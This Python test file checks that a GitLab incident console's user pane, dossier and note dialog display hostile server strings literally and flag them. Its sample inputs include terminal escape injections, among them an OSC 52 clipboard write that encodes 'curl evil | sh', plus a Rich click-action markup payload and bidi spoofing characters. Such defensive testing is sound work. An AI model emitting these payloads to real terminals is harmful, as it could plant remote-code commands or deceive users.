"""Hostile server text in the users pane, the dossier and the note dialog.

Every value below is what a compromised GitLab (or a user who chose their own display name) can
send. The app must keep running, nothing a terminal interprets may reach the rendered strips, no
markup may be parsed (so no ``@click`` action and no crash on ``[/``), and flagged values carry ⚠.
"""

from __future__ import annotations

import asyncio
import re
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from console.dossier import Dossier, Section
from console.errors import Problem
from screens.dossier import DossierScreen
from screens.dossier_render import render_section
from screens.note import NoteScreen
from screens.safe import FLAG_MARKER, safe_cell, safe_text
from tests.tui.test_users_pane import PaneApp, make_ctx, make_users, settle

HOSTILE = [
    "[/",
    "[@click=app.quit]x[/]",
    "bob[/b]",
    "osc\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "csi\x1b[2J\x1b[31mred",
    "c1\x9b31m8bit",
    "rlo\u202eexe.gpj",
    "zw\u200bsp",
]
# ESC, C0 (tab/newline aside), DEL, C1, bidi controls, zero-width and BOM.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]"
)


def hostile_users() -> list[dict[str, Any]]:
    users = make_users(30)
    for n, value in enumerate(HOSTILE):
        user = users[n + 1]  # ids 2..9; root stays clean
        user["username"] = value
        user["name"] = value + " name"
        user["email"] = value + "@example.test"
        user["current_sign_in_ip"] = value
        user["state"] = value if n % 2 else user["state"]
    return users


def strips_text(app: Any) -> list[str]:
    strips = app.screen._compositor.render_strips()
    return ["".join(seg.text for seg in strip) for strip in strips]


def assert_clean_screen(app: Any) -> str:
    strips = app.screen._compositor.render_strips()
    for strip in strips:
        for seg in strip:
            assert not FORBIDDEN.search(seg.text), repr(seg.text)
            if seg.style is not None:
                assert seg.style.link is None, seg
                if "click=" in seg.text:
                    assert not (seg.style.meta or {}).get("@click"), seg
    return "\n".join(strips_text(app))


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_text_is_literal_clean_and_flagged(value: str) -> None:
    console = Console(width=200, force_terminal=True, color_system="truecolor")
    for text in (safe_text(value, kind="username"), safe_cell(value, kind="name")):
        assert FLAG_MARKER in text.plain
        assert not FORBIDDEN.search(text.plain)
        with console.capture() as capture:
            console.print(text)
        out = capture.get()
        # The only escape sequences are Rich's own SGR styling.
        assert not FORBIDDEN.search(re.sub(r"\x1b\[[0-9;]*m", "", out))
    if value.startswith("["):
        assert value in safe_text(value).plain  # brackets shown as typed, not parsed


def test_users_pane_with_hostile_rows(tmp_path: Path) -> None:
    ctx = make_ctx(tmp_path, hostile_users())
    ctx.store.set_risk(ctx.incident_id, {3: (60, ["reason \x1b]52;c;eA==\x07 [/b]"])})

    async def run() -> None:
        app = PaneApp(ctx)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            screen = assert_clean_screen(app)
            assert screen.count(FLAG_MARKER) >= len(HOSTILE)
            assert "␛" in screen  # ESC shown as a visible stand-in
            # Clicking on every hostile row must not run [@click=app.quit].
            for y in range(5, 14):
                await pilot.click("#users-table", offset=(12, y))
            await pilot.press("s")  # re-sort by username: hostile rows move, still clean
            await settle(pilot)
            assert_clean_screen(app)
            await pilot.press("slash", *"[/", "enter")  # a hostile search string
            await settle(pilot, delay=0.2)
            screen = assert_clean_screen(app)
            assert "search [/" in screen
            assert [int(k) for k in app.pane.table.keys] == [2, 3, 4]
            await pilot.press("X", "home", "down", "C")  # note dialog titled with a hostile name
            await settle(pilot)
            assert isinstance(app.screen, NoteScreen)
            assert_clean_screen(app)
            await pilot.press("escape")
            assert app.is_running

    asyncio.run(run())


def hostile_dossier(user_id: int, window: tuple[str, str]) -> Dossier:
    evil = HOSTILE
    problem = Problem(
        "Forbidden \x1b[2J", "GitLab said: [@click=app.quit]x[/] \u202e", "[/", "auth"
    )
    return Dossier(
        user_id=user_id,
        window=window,
        fetched_at="2024-06-01T00:00:00Z",
        seconds=0.1,
        profile=Section(
            "profile",
            {
                "id": user_id,
                "username": evil[1],
                "name": evil[3],
                "email": evil[4],
                "state": evil[5],
                "note": "line1\nline2 \x1b[31m",
                "current_sign_in_ip": evil[6],
                "identities": [{"provider": evil[0], "extern_uid": evil[7]}],
            },
        ),
        emails=Section("emails", [{"email": e} for e in evil]),
        memberships=Section(
            "memberships",
            [
                {"source_type": evil[2], "source_name": e, "source_id": 1, "access_level": 50}
                for e in evil
            ],
        ),
        tokens=Section(
            "tokens",
            [{"id": n, "name": e, "scopes": [e], "last_used_ips": [e]} for n, e in enumerate(evil)],
        ),
        impersonation_tokens=Section("impersonation_tokens", None, problem),
        ssh_keys=Section("ssh_keys", [{"id": 1, "title": evil[3], "key": evil[4]}]),
        events=Section("events", [{"action_name": e, "target_title": e} for e in evil]),
        audit_events=Section(
            "audit_events",
            [
                {"id": n, "author_name": e, "details": {"custom_message": e, "ip_address": e}}
                for n, e in enumerate(evil)
            ],
            None,
            evil[1],
        ),
        blast_radius=Section(
            "blast_radius",
            [
                {
                    "source_type": "group",
                    "source_name": e,
                    "access_level": 40,
                    "variables": [{"key": e}],
                    "errors": {"hooks": e},
                }
                for e in evil
            ],
        ),
    )


def test_dossier_with_hostile_sections(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import console.dossier as dossier_module

    ctx = make_ctx(tmp_path, hostile_users())
    ctx.store.set_risk(ctx.incident_id, {3: (60, ["reason \x1b]52;c;eA==\x07 [/b]"])})
    monkeypatch.setattr(dossier_module, "fetch_dossier", lambda gl, uid, w: hostile_dossier(uid, w))
    monkeypatch.setattr(type(ctx), "gitlab", lambda self: object())

    async def run() -> None:
        app = PaneApp(ctx)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await pilot.press("down", "down", "enter")  # user 3: [@click=app.quit]x[/]
            await settle(pilot)
            assert isinstance(app.screen, DossierScreen)
            body = app.screen.query_one("#dossier-body")
            for _ in range(40):  # page through the whole dossier, checking every screenful
                screen = assert_clean_screen(app)
                await pilot.press("pagedown")
                await pilot.pause()
            assert FLAG_MARKER in screen
            body.scroll_home(animate=False)
            await pilot.pause()
            screen = assert_clean_screen(app)
            assert "[@click=app.quit]x[/]" in screen  # shown as typed
            await pilot.click("#dossier-header")
            await pilot.press("escape")
            await settle(pilot)
            assert app.is_running

    asyncio.run(run())

    # Every section renders (also at width 40) without a forbidden character.
    console = Console(width=40, force_terminal=True, color_system=None)
    dossier = hostile_dossier(3, ("2024-05-01T00:00:00Z", "2024-05-31T00:00:00Z"))
    for section in dossier.sections:
        with console.capture() as capture:
            console.print(render_section(section.name, section))
        assert not FORBIDDEN.search(capture.get()), section.name
